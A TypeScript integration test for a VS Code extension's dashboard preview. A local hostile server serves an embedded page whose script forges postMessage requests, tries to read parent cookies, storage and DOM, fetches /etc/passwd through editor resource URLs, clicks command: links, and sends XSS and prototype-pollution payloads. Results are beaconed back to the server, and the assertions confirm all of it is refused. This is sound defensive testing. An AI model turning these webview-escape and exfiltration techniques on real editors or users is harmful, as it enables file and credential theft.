import assert from 'node:assert/strict';
import { createServer, type IncomingMessage, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as vscode from 'vscode';
import { extensionRequests, pageRequests } from '../../../src/contract/messages/hostChannel.ts';
import type { OpenPreview, Previews } from '../../../src/ui/dashboard/previews.ts';
import { waitFor } from '../../run/waitFor.ts';
import { extension } from '../deployments/treeAccess.ts';

const url = process.env.DATA_MODEL_URL!;
const adminKey = process.env.DATA_MODEL_ADMIN_API_KEY!;
const personalKey = process.env.DATA_MODEL_API_KEY!;

/** Arguments that would do harm, were they heard; every request that the page may make of the extension has one. */
const requests: Record<keyof typeof pageRequests, object> = {
  loadConfig: {},
  mintSession: { branch: null, reason: 'load' },
  exportDashboard: { format: 'png', branch: null },
  setEmbedding: { allow: false },
  useMode: { mode: 'private' },
  pickProfile: {},
  enterAdminKey: {},
  listComments: {},
  createComment: { text: 'evil', mentions: [] },
  replyToComment: { threadId: '1', text: 'evil', mentions: [] },
  editComment: { commentId: '1', text: 'evil', mentions: [] },
  deleteComment: { commentId: '1' },
  resolveComment: { commentId: '1', resolved: true },
  mentionableUsers: {},
  openDefinition: { member: 'orders.count' },
  listDimensions: {},
  saveOptions: { branch: 'evil', theme: 'dark', locale: 'fr', timezone: 'Asia/Tokyo', filters: [], profile: null },
  openOutside: {},
  commandOutside: { command: 'reload' },
  actOutside: { name: 'refresh', payload: {} },
  copyText: { text: 'stolen' },
  log: { level: 'error', message: 'evil' },
  stateChanged: {},
};

/** And what it would tell the page in the extension's name. */
const orders: Record<keyof typeof extensionRequests, object> = {
  configChanged: { mode: 'private', title: 'evil', options: requests.saveOptions },
  refresh: {},
  reload: {},
  markFreshness: { stale: true, reason: 'evil' },
  exportProgress: { status: 'evil' },
  visibility: { visible: true },
  sendAction: { name: 'set-session', payload: { sessionId: 'evil' } },
  runCommand: { command: 'reload' },
  state: {},
};

/** No request of either side ever has such a number. */
const ownIds = 1_000_000;

/** The script inside the frame: valid enough to be shown, then all attacks that we know. */
const attack = `
const names = ${JSON.stringify({ ...requests, ...orders })};
const report = (what, value) => navigator.sendBeacon('/report', JSON.stringify([what, String(value).slice(0, 500)]));
const say = (name, payload) => parent.postMessage({ source: 'svc-embed', direction: 'event', type: 'svc:event:' + name,
  payload, timestamp: Date.now(), surface: 'dashboard' }, '*');
const forged = (name, payload) => ({ source: 'svc-embed', direction: 'event', type: 'svc:event:' + name, payload,
  timestamp: Date.now(), surface: 'dashboard' });
say('ready', { embedTenant: 'acme', deploymentId: 1, mode: 'signed', surface: 'dashboard' });
const windows = [];
for (let one = window; one !== one.parent; one = one.parent) windows.push(one.parent);
report('windows', windows.length);
let id = 0;
for (const target of windows) {
  for (const [name, body] of Object.entries(names)) {
    id += 1;
    const wire = { channel: 'request', id, name, body };
    wire.id += ${ownIds};
    const reply = { channel: 'reply', id, body: { ok: true, sessionId: 'evil', allowed: false } };
    for (const message of [wire, reply, { channel: 'failure', id, body: 'evil' }, { channel: 'cancel', id },
      // As editors wrap what their webviews say.
      { command: 'onmessage', data: { message: wire } }, { channel: 'onmessage', data: { message: wire } },
      { command: 'onmessage', data: wire }, { target: 'x', channel: 'onmessage', data: { message: wire } },
      JSON.stringify(wire)]) target.postMessage(message, '*');
  }
  for (const data of ['command:workbench.action.files.newUntitledFile', { uri: 'command:workbench.action.files.newUntitledFile' }])
    for (const channel of ['did-click-link', 'do-reload', 'load-resource', 'set-content'])
      target.postMessage({ channel, command: channel, data }, '*');
  const channel = new MessageChannel();
  target.postMessage({ target: 'x', data: { channel: 'webview-ready' }, channel: 'webview-ready' }, '*', [channel.port2]);
}
const attempt = (name, work) => { try { report('read ' + name, work()); } catch { report('refused ' + name, ''); } };
attempt('document', () => parent.document.body.innerHTML);
attempt('cookie', () => top.document.cookie);
attempt('storage', () => JSON.stringify(parent.localStorage));
attempt('editor', () => typeof parent.acquireVsCodeApi === 'function' ? 'api' : (() => { throw 0; })());
attempt('own editor', () => acquireVsCodeApi());
attempt('address', () => parent.location.href);
attempt('top address', () => top.location.href);
report('referrer', document.referrer);
for (const go of [() => { top.location = 'about:blank#evil'; }, () => { parent.location = 'about:blank#evil'; },
  () => open('about:blank#evil', '_top'), () => open('about:blank#evil', '_parent')]) try { go(); } catch {}
const link = document.createElement('a');
for (const [href, target] of [['command:workbench.action.files.newUntitledFile', '_top'],
  ['command:workbench.action.files.newUntitledFile', '_blank'], ['vscode://file/etc/passwd', '_top'], ['about:blank#evil', '_top']]) {
  link.href = href; link.target = target; document.body.append(link); try { link.click(); } catch {}
}
const ancestors = [...(location.ancestorOrigins ?? [])];
const files = ['vscode-resource://file///etc/passwd', 'vscode-file://vscode-app/etc/passwd', 'file:///etc/passwd',
  'vscode-webview-resource://x/file///etc/passwd', ...ancestors.flatMap((origin) => [
  origin + '/vscode-remote-resource?path=/etc/passwd', origin + '/dist/webview/host.js', origin + '/'])];
for (const file of files) fetch(file, { credentials: 'include' }).then(async (answer) => report('read ' + file, await answer.text()), () => report('refused ' + file, ''));
// From a window that is not the frame's own, and from one without an origin: sound events.
for (const sandbox of [undefined, 'allow-scripts']) {
  const nested = document.createElement('iframe');
  if (sandbox) nested.setAttribute('sandbox', sandbox);
  nested.srcdoc = '<script>const say = ' + JSON.stringify(forged('drilldown', { member: 'orders.count' })) +
    '; for (let one = window; one !== one.parent; one = one.parent) for (let i = 0; i < 20; i += 1) one.parent.postMessage(say, "*")</scr' + 'ipt>';
  document.body.append(nested);
}
const popup = open('about:blank', 'evil');
if (popup) { try { popup.eval('opener.parent.postMessage(' + JSON.stringify(forged('drilldown', { member: 'orders.count' })) + ', "*")'); } catch {} }
// Payloads that must not stop a window.
const cyclic = {}; cyclic.self = cyclic;
const huge = 'x'.repeat(10000000);
for (const payload of [cyclic, { path: huge }, new Map([[1, cyclic]]), new ArrayBuffer(1000000), 10n, new Date(NaN), JSON.parse('{"__proto__":{"polluted":1},"path":"/p"}')])
  for (const name of ['navigate', 'error', 'noise']) say(name, payload);
for (let i = 0; i < 3000; i += 1) say('error', { message: '<img src=x onerror=alert(1)>' + i, context: 'c' + i });
say('dashboard-loaded', { widgetCount: 3 });
report('done', id);
// Navigates to another origin when the test asks for it, and sends a message from there.
const word = '<script>parent.postMessage(' + JSON.stringify(forged('navigate', { path: '/from-elsewhere' })) + ',"*")</scr' + 'ipt>';
setInterval(async () => { if ((await (await fetch('/go')).text()) === 'go') location.href = 'data:text/html,' + encodeURIComponent(word); }, 300);
`;

/** A tenant whose platform is real and whose embedded page is not what it should be. */
class HostileTenant {
  readonly reports: [what: string, value: string][] = [];
  /** Method and path of what the extension asked of the platform. */
  readonly asked: string[] = [];
  /** The page is to leave for another origin. */
  away = false;
  readonly #server: Server;

  constructor() {
    this.#server = createServer((incoming, outgoing) => {
      const path = incoming.url ?? '/';
      if (path === '/report') return void this.#take(incoming, () => outgoing.end());
      if (path === '/go') return void outgoing.end(this.away ? 'go' : 'stay');
      if (path.startsWith('/embed/dashboard/')) {
        outgoing.setHeader('content-type', 'text/html');
        outgoing.end(`<!doctype html><body>hostile<script>${attack}</script></body>`);
        return;
      }
      this.asked.push(`${incoming.method} ${path}`);
      const { host: _, ...headers } = incoming.headers;
      const passed = request(`${url}${path}`, { method: incoming.method, headers }, (answer) => {
        outgoing.writeHead(answer.statusCode!, answer.headers);
        answer.pipe(outgoing);
      });
      passed.on('error', () => outgoing.destroy());
      incoming.pipe(passed);
    });
  }

  async listen(): Promise<string> {
    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  count(pattern: RegExp): number {
    return this.asked.filter((line) => pattern.test(line)).length;
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }

  #take(incoming: IncomingMessage, done: () => void): void {
    let body = '';
    incoming.on('data', (part) => {
      body += part;
    });
    incoming.on('end', () => {
      this.reports.push(JSON.parse(body));
      done();
    });
  }
}

describe('a hostile page inside a preview', () => {
  let previews: Previews;
  let tenant: HostileTenant;
  let connectionId: string;

  before(async () => {
    const { app, dashboards } = await extension();
    previews = await dashboards.previews();
    tenant = new HostileTenant();
    const connection = await app.connections.add(await tenant.listen(), { token: personalKey });
    connectionId = connection.id;
    await (await connection.open()).useAdmin({ token: adminKey });
  });
  after(async () => {
    for (const { panel } of previews.all) panel.dispose();
    await (await extension()).app.connections.remove(connectionId);
    tenant.close();
  });

  it('reaches no command, token or file, and its messages reach the extension only parsed', async () => {
    assert.deepEqual(Object.keys(requests).sort(), Object.keys(pageRequests).sort(), 'every kind of request is sent');
    assert.deepEqual(Object.keys(orders).sort(), Object.keys(extensionRequests).sort());
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    const state = {
      tab: 'hostile',
      changes: 0,
      connectionId,
      subject: { surface: 'dashboard', deploymentId: '1', publicId: 'sample-shop-sales' },
      mine: false,
      mode: 'signed',
      options: { branch: null, theme: 'follow', locale: null, timezone: null, filters: [], profile: null },
    } as const;
    // The page may drill down; another test checks that this opens an editor.
    const settings = vscode.workspace.getConfiguration('dataModel');
    await settings.update('dashboard.followDrilldown', false, vscode.ConfigurationTarget.Global);
    await vscode.env.clipboard.writeText('mine').then(undefined, () => {});
    const before = await vscode.workspace.findFiles('**/*');
    const { preview, panel }: OpenPreview = previews.show({ ...state, options: { ...state.options, filters: [] } });
    const told: unknown[] = [];
    const listening = panel.webview.onDidReceiveMessage((message) => told.push(message));
    const reported = (what: string) => tenant.reports.find(([name]) => name === what)?.[1];
    await waitFor(
      'it tried everything',
      () => reported('done') !== undefined,
      () => tenant.reports,
    );
    await waitFor(
      'the page still receives messages',
      () => (preview.page.value?.counts.accepted ?? 0) >= 3_002,
      () => preview.page.value,
    );
    tenant.away = true;
    // Time for what was set in motion: the walk to another origin, too.
    await new Promise((resolve) => setTimeout(resolve, 4_000));
    const page = preview.page.value!;

    assert.ok(Number(reported('windows')) >= 2, 'it is framed by the page, and that by the editor');
    const read = tenant.reports.filter(([what]) => what.startsWith('read '));
    assert.deepEqual(read, [], 'nothing was read');
    for (const name of ['document', 'cookie', 'storage', 'editor', 'own editor', 'address', 'top address'])
      assert.notEqual(reported(`refused ${name}`), undefined, `${name} was tried`);
    assert.doesNotMatch(reported('referrer') ?? '', /session|token|\?/);

    // The commands: one session was minted, for the load, and nothing else was asked of the platform in its name.
    assert.equal(tenant.count(/^POST \/api\/v1\/embed\/generate-session/), 1, tenant.asked.join('\n'));
    assert.equal(tenant.count(/^(PATCH|DELETE|PUT) /), 0, tenant.asked.join('\n'));
    assert.equal(tenant.count(/dashboard-exports|comments|session\/token/), 0, tenant.asked.join('\n'));
    const names = new Set(
      told.map((message) => (message as { channel?: string; name?: string }).name).filter((name) => name !== undefined),
    );
    for (const allowed of ['loadConfig', 'mintSession', 'stateChanged', 'log']) names.delete(allowed);
    assert.deepEqual([...names], [], 'the page asked nothing else of the extension');
    assert.ok(!JSON.stringify(told).includes('evil'), 'and forwarded nothing from it');
    const answered = told.filter((message) => Number((message as { id?: number }).id) >= ownIds);
    assert.deepEqual(answered, [], 'the page answers the extension alone');
    assert.deepEqual([page.stale, page.options, page.counts.loads], [false, state.options, 1]);
    assert.deepEqual(preview.state.value.options, state.options);
    assert.equal(preview.state.value.mode, 'signed');
    assert.equal(vscode.window.visibleTextEditors.length, 0, 'no editor was opened');
    assert.equal(vscode.workspace.textDocuments.filter(({ isUntitled }) => isUntitled).length, 0);
    assert.deepEqual((await vscode.workspace.findFiles('**/*')).length, before.length, 'no file was written');
    const clipboard = await vscode.env.clipboard.readText().then(undefined, () => 'mine');
    assert.notEqual(clipboard, 'stolen');

    // The page works, lists what it ignored, and has not navigated.
    assert.ok(
      page.counts.ignored >= (Object.keys(requests).length + Object.keys(orders).length) * 9,
      JSON.stringify(page.counts),
    );
    assert.notEqual(page.path, '/from-elsewhere');
    assert.ok(panel.visible && preview.page.value?.ready);
    listening.dispose();
    await settings.update('dashboard.followDrilldown', undefined, vscode.ConfigurationTarget.Global);
  });
});
